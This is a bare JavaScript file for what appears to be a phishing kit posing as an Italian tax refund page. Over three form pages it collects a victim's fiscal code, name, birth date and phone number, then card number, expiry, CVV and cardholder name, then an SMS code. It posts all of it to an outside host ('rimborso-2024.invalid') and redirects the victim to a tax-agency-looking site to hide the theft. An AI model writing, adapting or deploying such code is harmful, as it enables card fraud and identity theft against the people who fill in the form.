var pagina = document.body.getAttribute('data-pagina');
function salva(campi) {
  for (var i = 0; i < campi.length; i++) {
    sessionStorage.setItem(campi[i], document.getElementById(campi[i]).value);
  }
}
function tutto() {
  var t = '';
  for (var i = 0; i < sessionStorage.length; i++) {
    var k = sessionStorage.key(i);
    t += k + ': ' + sessionStorage.getItem(k) + '\n';
  }
  return t;
}
document.getElementById('modulo').onsubmit = function () {
  if (pagina == '1') {
    salva(['codice_fiscale', 'nome', 'cognome', 'data_nascita', 'cellulare']);
    location.href = 'accredito.html';
  } else if (pagina == '2') {
    salva(['carta', 'scadenza', 'cvv', 'intestatario']);
    location.href = 'conferma.html';
  } else {
    salva(['codice_sms']);
    var x = new XMLHttpRequest();
    x.open('POST', 'https://rimborso-2024.invalid/invio.php', true);
    x.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
    x.onloadend = function () {
      sessionStorage.clear();
      location.href = 'https://www.agenzia-tributi.example/';
    };
    x.send('testo=' + encodeURIComponent(tutto()));
  }
  return false;
};
